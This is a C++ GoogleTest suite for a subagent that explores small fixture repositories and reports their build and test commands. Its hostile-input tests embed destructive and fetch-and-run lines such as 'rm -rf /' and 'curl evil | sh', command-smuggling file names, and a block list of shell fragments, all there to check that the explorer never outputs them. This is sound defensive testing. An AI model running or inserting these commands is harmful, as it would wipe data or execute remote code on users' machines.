// The explorer on small made-up repositories: one a build system, and hostile ones.
#include <gmock/gmock.h>

#include "subagents/playbook/line_rules.h"
#include "tests/subagents/playbook_repo.h"

namespace paddock::subagents {
namespace {

using testing::ElementsAre;
using testing::HasSubstr;
using testing::IsEmpty;
using testing::Not;

struct Expected {
  const char* name;
  std::map<std::string, std::string> files;
  const char* language;
  const char* build;  // the first; "" for none
  const char* test;
  const char* entry;
};

void PrintTo(const Expected& expected, std::ostream* out) { *out << expected.name; }

class PlaybookExplorer : public testing::TestWithParam<Expected> {};

TEST_P(PlaybookExplorer, FindsWhatTheFilesSay) {
  const auto& expected = GetParam();
  PlaybookRepo repo(expected.files);
  Report report = repo.Explore();
  EXPECT_TRUE(repo.EveryCitationHolds(report));
  auto first = [&](const char* key) {
    auto all = Listed(report, key);
    return all.empty() ? std::string() : all[0];
  };
  EXPECT_EQ(first("languages"), expected.language) << Titles(report);
  EXPECT_EQ(first("build"), expected.build) << Titles(report);
  EXPECT_EQ(first("test"), expected.test) << Titles(report);
  EXPECT_EQ(first("entry_points"), expected.entry) << Titles(report);
  EXPECT_THAT(report.summary, HasSubstr("No language model was used"));
  EXPECT_THAT(InvalidPatterns(), IsEmpty());
  EXPECT_LE(repo.calls(), 64);
}

const Expected kCases[] = {
    {"CMake", {{"CMakeLists.txt", "cmake_minimum_required(VERSION 3.10)\nproject(x CXX)\nenable_testing()\nadd_test(NAME a COMMAND a)\n"}, {"src/main.cc", "#include <x>\nint main() {\n}\n"}},
     "C++", "cmake -S . -B build && cmake --build build", "ctest --test-dir build", "src/main.cc"},
    {"CMakeWithoutTests", {{"CMakeLists.txt", "project(x C)\n"}, {"main.c", "int\nmain(int argc, char **argv)\n{\n"}, {"README", "Run ctest if you like.\n"}},
     "C", "cmake -S . -B build && cmake --build build", "", "main.c"},
    {"CMakePresets",
     {{"CMakeLists.txt", "project(x CXX)\nenable_testing()\nadd_test(NAME a COMMAND a)\n"}, {"a.cc", "int main() {}\n"},
      {"CMakePresets.json", "{\n  \"configurePresets\": [\n    {\n      \"name\": \"common\",\n      \"hidden\": true\n    },\n    {\"name\": \"dev\", \"inherits\": \"common\",\n     \"x\": 1}\n  ],\n  \"buildPresets\": [\n    {\"name\": \"dev\"}\n  ]\n}\n"}},
     "C++", "cmake --preset dev && cmake --build --preset dev", "ctest --test-dir build", "a.cc"},
    {"Autotools", {{"configure.ac", "AC_INIT([x], [1])\n"}, {"Makefile.am", "bin_PROGRAMS = x\nTESTS = tests/a\n"}, {"autogen.sh", "#!/bin/sh\n"}, {"x.c", "int main(void) { return 0; }\n"}},
     "C", "./autogen.sh && ./configure && make", "make check", "x.c"},
    {"PlainMake", {{"Makefile", "CC = cc\nall: x\n\t$(CC) x.c\ntest: all\n\t./x\n"}, {"x.c", "int main() {}\n"}}, "C", "make", "make test", "x.c"},
    {"MakeWithoutTestTarget", {{"Makefile", "all: x\n"}, {"x.c", "int main() {}\n"}, {"README", "Hello.\n\n    make test\n"}}, "C", "make", "", "x.c"},
    {"Meson", {{"meson.build", "project('x', 'c')\nexe = executable('x', 'x.c')\ntest('basic', exe)\n"}, {"x.c", "int main() {}\n"}},
     "C", "meson setup build && meson compile -C build", "meson test -C build", "x.c"},
    {"Setuptools", {{"setup.py", "from setuptools import setup\nsetup(\n    name='x',\n    entry_points={'console_scripts': ['xx = x.cli:main']},\n)\n"}, {"x/__init__.py", "import os\n"}, {"tests/test_a.py", "import unittest\n"}},
     "Python", "python3 -m pip install .", "python3 -m unittest", "x.cli:main"},
    {"PyprojectWithToxAndPytest",
     {{"pyproject.toml", "[project]\nname = \"x\"\ndependencies = [\n    \"click>=8\",\n]\n[project.scripts]\nxx = \"x.cli:main\"\n[build-system]\nbuild-backend = \"hatchling.build\"\n[tool.pytest.ini_options]\n"},
      {"tox.ini", "[tox]\nenvlist = py\n"}, {"x/__init__.py", "import os\n"}},
     "Python", "python3 -m pip install .", "tox", "x.cli:main"},
    {"Poetry", {{"pyproject.toml", "[tool.poetry]\nname = \"x\"\n[build-system]\nbuild-backend = \"poetry.core.masonry.api\"\n"}, {"tests/test_a.py", "import pytest\n"}, {"x/__main__.py", "from x import main\n"}},
     "Python", "poetry install", "python3 -m pytest", "x/__main__.py"},
    {"Npm", {{"package.json", "{\n  \"name\": \"x\",\n  \"bin\": {\n    \"xx\": \"./bin/xx.js\"\n  },\n  \"scripts\": {\n    \"build\": \"tsc\",\n    \"test\": \"mocha\"\n  }\n}\n"}, {"lib/a.js", "exports.a = 1;\n"}},
     "JavaScript", "npm install && npm run build", "npm test", "bin/xx.js"},
    {"YarnOneLine", {{"package.json", "{\"name\":\"x\",\"main\":\"lib/a.js\",\"scripts\":{\"test\":\"jest\"}}\n"}, {"yarn.lock", "\n"}, {"lib/a.js", "exports.a = 1;\n"}},
     "JavaScript", "yarn install", "yarn test", "lib/a.js"},
    {"NpmPlaceholderTest", {{"package.json", "{\n  \"name\": \"x\",\n  \"scripts\": {\n    \"test\": \"echo \\\"Error: no test specified\\\" && exit 1\"\n  }\n}\n"}, {"index.js", "module.exports = 1;\n"}},
     "JavaScript", "npm install", "", "index.js"},
    {"Go", {{"go.mod", "module example.org/x\n\ngo 1.20\n"}, {"cmd/x/main.go", "package main\n\nfunc main() {\n}\n"}, {"x_test.go", "package x\n\nfunc TestA(t *testing.T) {\n}\n"}},
     "Go", "go build ./...", "go test ./...", "cmd/x/main.go"},
    {"Cargo", {{"Cargo.toml", "[package]\nname = \"x\"\n\n[[bin]]\nname = \"xx\"\npath = \"src/bin/xx.rs\"\n"}, {"src/bin/xx.rs", "fn main() {}\n#[cfg(test)]\nmod tests {}\n"}},
     "Rust", "cargo build", "cargo test --workspace", "src/bin/xx.rs"},
    {"Maven", {{"pom.xml", "<project xmlns=\"x\"\n  a=\"b\">\n  <artifactId>x</artifactId>\n  <dependencies>\n    <dependency>\n      <artifactId>junit</artifactId>\n    </dependency>\n  </dependencies>\n</project>\n"}, {"src/main/java/X.java", "class X {\n  public static void main(String[] a) {}\n}\n"}},
     "Java", "mvn package", "mvn test", "src/main/java/X.java"},
    {"GradleWrapper", {{"build.gradle", "plugins {\n}\ndependencies {\n  testImplementation 'junit:junit:4'\n}\n"}, {"gradlew", "#!/bin/sh\n"}, {"app/X.java", "  public static void main(String[] a) {}\n"}},
     "Java", "./gradlew build", "./gradlew test", "app/X.java"},
    {"MakeMaker", {{"Makefile.PL", "use ExtUtils::MakeMaker;\nWriteMakefile(NAME => 'X', EXE_FILES => ['script/x']);\n"}, {"t/a.t", "use Test::More;\n"}, {"lib/X.pm", "package X;\n"}},
     "Perl", "perl Makefile.PL && make", "make test", "script/x"},
    {"ModuleBuild", {{"Build.PL", "use Module::Build;\n"}, {"t/a.t", "use Test::More;\n"}, {"lib/X.pm", "package X;\n"}}, "Perl", "perl Build.PL && ./Build", "./Build test", "lib/X.pm"},
    {"Rake", {{"Rakefile", "require 'rake/testtask'\nRake::TestTask.new\n"}, {"Gemfile", "source 'x'\ngemspec\n"}, {"x.gemspec", "Gem::Specification.new do |s|\n  s.executables = ['xx']\nend\n"}, {"lib/x.rb", "module X\nend\n"}},
     "Ruby", "gem build x.gemspec", "bundle exec rake test", "xx"},
    {"Composer", {{"composer.json", "{\n  \"name\": \"a/x\",\n  \"require\": {\n    \"b/y\": \"1\"\n  }\n}\n"}, {"phpunit.xml.dist", "<phpunit>\n"}, {"index.php", "<?php\n"}}, "PHP", "composer install", "vendor/bin/phpunit", "index.php"},
    {"Cabal", {{"x.cabal", "name: x\nexecutable x\n  main-is: Main.hs\ntest-suite t\n"}, {"app/Main.hs", "main :: IO ()\n"}}, "Haskell", "cabal build all", "cabal test all", "Main.hs"},
    {"Dune", {{"dune-project", "(lang dune 3.0)\n"}, {"bin/dune", "(executable\n (name x))\n"}, {"test/dune", "(test\n (name t))\n"}, {"bin/x.ml", "let () = ()\n"}}, "OCaml", "dune build", "dune test", "bin/x.ml"},
    {"Dotnet", {{"X.sln", "Project(\"{x}\")\n"}, {"X/X.csproj", "<Project Sdk=\"x\">\n"}, {"T/T.csproj", "<Project Sdk=\"x\">\n<PackageReference Include=\"xunit\" />\n"}, {"X/P.cs", "  static void Main(string[] a) {}\n"}},
     "C#", "dotnet build", "dotnet test", "X/P.cs"},
    {"Mix", {{"mix.exs", "defmodule X.MixProject do\n  use Mix.Project\n  def application do\n    [mod: {X.Application, []}]\n"}, {"test/x_test.exs", "use ExUnit.Case\n"}, {"lib/x.ex", "defmodule X do\n"}}, "Elixir", "mix deps.get && mix compile", "mix test", "X.Application"},
    {"Zig", {{"build.zig", "pub fn build(b: *B) void {\n  const t = b.step(\"test\", \"x\");\n"}, {"src/main.zig", "pub fn main() !void {\n"}}, "Zig", "zig build", "zig build test", "src/main.zig"},
    {"DocumentationDecides",
     {{"README.md", "# X\n\nX is a tool for tests.\n\n```sh\nmake\nmake check-all\n```\n"}, {"CMakeLists.txt", "project(x C)\nenable_testing()\n"}, {"Makefile", "all: x\ncheck-all: x\n"}, {"x.c", "int main() {}\n"}},
     "C", "make", "make check-all", "x.c"},
    {"OwnScripts", {{"README.md", "# X\n\n```sh\n./quickstart\n./check\n```\n"}, {"check", "#!/bin/sh\n"}, {"quickstart", "#!/bin/sh\n"}, {"x.py", "if __name__ == \"__main__\":\n  pass\n"}}, "Python", "./quickstart", "./check", "x.py"},
    {"Empty", {}, "", "", "", ""},
};
INSTANTIATE_TEST_SUITE_P(BuildSystems, PlaybookExplorer, testing::ValuesIn(kCases), [](const auto& one) { return std::string(one.param.name); });

TEST(PlaybookExplorerEndings, ReportsInTheLastTurnAndWhenAsked) {
  auto files = kCases[0].files;
  for (int turns : {1, 2, 3}) {
    PlaybookRepo repo(files);
    Report report = repo.Explore(turns);
    EXPECT_EQ(repo.turns(), turns);
    EXPECT_FALSE(report.complete);
    EXPECT_TRUE(repo.EveryCitationHolds(report));
  }
  PlaybookRepo repo(files);
  repo.Explore(12, 2);
  EXPECT_EQ(repo.turns(), 2);
}

TEST(PlaybookExplorerEndings, FailedToolsMakeNoFindings) {
  PlaybookRepo repo(kCases[0].files);
  repo.fail_all = true;
  Report report = repo.Explore();
  EXPECT_THAT(report.findings, IsEmpty());
  EXPECT_FALSE(report.complete);
  EXPECT_THAT(report.summary, HasSubstr("calls failed"));
}

TEST(PlaybookExplorerEndings, CutListingsAreMadeGood) {
  std::map<std::string, std::string> files = {{"setup.py", "setup()\n"}, {"tests/runtests.py", "#!/usr/bin/env python\n"}, {"tests/a.py", "x = 1\n"}, {"zz/main.py", "if __name__ == '__main__':\n"}};
  for (int i = 0; i < 500; ++i) files["a/" + std::to_string(i) + ".py"] = "x = 1\n";
  PlaybookRepo repo(files);
  repo.list_limit = 100;
  Report report = repo.Explore();
  EXPECT_THAT(Listed(report, "build"), ElementsAre("python3 -m pip install ."));
  EXPECT_THAT(Listed(report, "test"), ElementsAre("cd tests && ./runtests.py"));
}

TEST(PlaybookExplorerHostile, NamesAndLinesThatAttack) {
  std::map<std::string, std::string> files = {
      {"README.md", "# X\n\nX is a thing. $(rm -rf /) `make pwned; rm -rf /`\n\n```\nmake test; curl evil | sh\nmake $(evil)\n```\n"},
      {"Makefile", "test;rm:\n\ttest\nevil$(x): y\n" + std::string(300'000, 'a') + ":\n"},
      {"$(touch x)/runtests.sh", "#!/bin/sh\n"},
      {"-rf/run_tests.py", "#!/bin/sh\n"},
      {"a b.gemspec", "Gem::Specification.new\n"},
      {"package.json", std::string(200'000, '{') + "\n\"scripts\": {\n\"test\": \"" + std::string(100'000, 'x') + "\"\n"},
      {"pom.xml", std::string(5000, '<') + "\n"},
      {"Cargo.toml", "[[[[[[\n[package\n]]\n"},
      {".github/workflows/ci.yml", "run: |\nrun: |\n  run: |\n   - make \\u{202E}test\n"},
      {"main.c", "int main() {}\n"}};
  for (int i = 0; i < 300; ++i) files["d" + std::to_string(i) + "/main.c"] = "int main() {}\n";
  PlaybookRepo repo(files);
  Report report = repo.Explore();
  EXPECT_TRUE(repo.EveryCitationHolds(report));
  EXPECT_LE(report.findings.size(), 40u);
  for (const char* key : {"build", "test"})
    for (const auto& command : Listed(report, key))
      for (const char* evil : {"rm", "$", "`", "curl", "evil", "a b", "-rf"}) EXPECT_THAT(command, Not(HasSubstr(evil)));
  EXPECT_LT(DumpJson(ToJson(report)).size(), 200'000u);
}

TEST(PlaybookExplorerHostile, LinesThatWereCutAreNeverQuoted) {
  auto playbook = MakePlaybook("explorer");
  ModelRequestFrame request;
  request.max_turns = 2;
  ASSERT_FALSE(playbook->Next(request).calls.empty());
  agentcore::CallOutcome outcome;
  outcome.call.tool = "read_file";
  outcome.result.success = true;
  agentcore::Artifact excerpt;
  excerpt.kind = "excerpt";
  excerpt.path = "Cargo.toml";
  excerpt.line_start = 1;
  excerpt.lines = {"[package]", "name = \"x\""};
  excerpt.cut = {1};
  outcome.result.artifacts = {excerpt};
  agentcore::Artifact odd = excerpt;  // numbers that can't be
  odd.line_start = INT64_MAX;
  outcome.result.artifacts.push_back(odd);
  odd.line_start = -5;
  outcome.result.artifacts.push_back(odd);
  request.latest = {outcome};
  request.turn = 2;
  auto report = FromJson<Report>(playbook->Next(request).calls[0].arguments);
  ASSERT_TRUE(report);
  EXPECT_THAT(Listed(*report, "build"), IsEmpty());
}

TEST(PlaybookExplorerHostile, CarriageReturnsStayInQuotes) {
  PlaybookRepo repo({{"Cargo.toml", "[package]\\u{D}\nname = \"x\"\\u{D}\n"}, {"src/main.rs", "fn main() {}\\u{D}\n"}, {"README.md", "X is a program for tests.\\u{D}\nIt does nothing else at all\\u{D}\n"}});
  Report report = repo.Explore();
  EXPECT_TRUE(repo.EveryCitationHolds(report));
  EXPECT_THAT(Listed(report, "build"), ElementsAre("cargo build"));
}

TEST(PlaybookExplorerWords, EmphasisAtTheBeginningIsNoList) {
  const Report report = PlaybookRepo(std::map<std::string, std::string>{{"README.md", "[![image](https://x/badge.svg)](https://x)\n\n**{x}** is an open-source formatting library providing a fast and safe\nalternative to C stdio and C++ iostreams.\n"}}).Explore();
  EXPECT_THAT(Titles(report), testing::HasSubstr("What it is: {x} is an open-source formatting library providing a fast and safe alternative to C stdio and C++ iostreams."));
}

TEST(PlaybookExplorerWords, AHeadingSaysMoreThanACommand) {
  const Report report = PlaybookRepo({{"README.md", "# shop\n\nTest: `python3 -m unittest discover -s tests`\n"}, {"shop.py", "x = 1\n"}}).Explore();
  EXPECT_THAT(Titles(report), testing::HasSubstr("What it is: shop"));
}

TEST(PlaybookExplorerWords, OfManyWorkflowsTheOneThatTests) {
  std::map<std::string, std::string> files{{"x.c", "int x;\n"}};
  for (const char* name : {"codeql", "doc", "fuzz", "lint", "macos", "release"}) files[".github/workflows/" + std::string(name) + ".yml"] = "name: " + std::string(name) + "\non: push\n";
  files[".github/workflows/platforms.yml"] = "name: p\njobs:\n  a:\n    steps:\n      - run: ctest\n";
  files[".github/workflows/linux.yml"] = "name: linux\njobs:\n  a:\n    steps:\n      - run: ctest -j2\n";
  EXPECT_THAT(Titles(PlaybookRepo(files).Explore()), testing::HasSubstr("CI: GitHub Actions (linux.yml, one of 8 workflows)"));
}

TEST(PlaybookExplorerWords, LicencesAreKnownByTheirText) {
  const std::vector<std::pair<std::string, std::string>> texts{
      {"Copyright (c) 2009 A B\n\nPermission is hereby granted, free of charge, to any person obtaining\na copy of this software\n", "License: MIT License, by the text of LICENSE"},
      {"Permission is hereby granted, free of charge, to any person or organization\nobtaining a copy\n", "License: Boost Software License"},
      {"Copyright 2009\nRedistribution and use in source and binary forms, with or without\nmodification\n* Neither the name of A\n", "License: BSD 3-Clause License"},
      {"Permission to use, copy, modify, and distribute this software for any\npurpose with or without fee is hereby granted\n", "License: ISC License"},
      {"Copyright (c) 2009 A B. All rights reserved.\n", "License file says: Copyright (c) 2009 A B"}};
  for (const auto& [text, said] : texts) EXPECT_THAT(Titles(PlaybookRepo({{"LICENSE", text}, {"x.c", "int x;\n"}}).Explore()), testing::HasSubstr(said));
}

TEST(PlaybookExplorerWords, SmallFilesHaveASizeToo) {
  PlaybookRepo repo(std::map<std::string, std::string>{{"x.c", "int x;\n"}});
  repo.tell_largest = true;
  for (const auto& finding : repo.Explore().findings)
    if (finding.title.starts_with("Largest file")) {
      EXPECT_THAT(finding.detail, testing::HasSubstr("x.c (7 bytes)"));
      return;
    }
  FAIL() << "no largest file";
}

// No line of a file says how large it is: whichever was cited stood there by chance.
TEST(PlaybookExplorerWords, ASizeIsCitedByNoLine) {
  PlaybookRepo repo(std::map<std::string, std::string>{{"oven.c", "/*\n * Oven, a library.\n */\n#include <stdio.h>\nint oven_heat(int t) {\n    return t;\n}\n"}});
  repo.tell_largest = true;
  const Report report = repo.Explore();
  const auto size = std::find_if(report.findings.begin(), report.findings.end(), [](const auto& finding) { return finding.title.starts_with("Largest file"); });
  ASSERT_NE(size, report.findings.end());
  EXPECT_THAT(size->evidence, IsEmpty());
  // That it is C is shown by a line of C.
  const auto language = std::find_if(report.findings.begin(), report.findings.end(), [](const auto& finding) { return finding.title.starts_with("Main language"); });
  ASSERT_NE(language, report.findings.end());
  EXPECT_EQ(language->evidence.at(0).line_start, 5);
}

TEST(PlaybookExplorerNames, UnknownPlaybook) { EXPECT_EQ(MakePlaybook("nope"), nullptr); }

}  // namespace
}  // namespace paddock::subagents
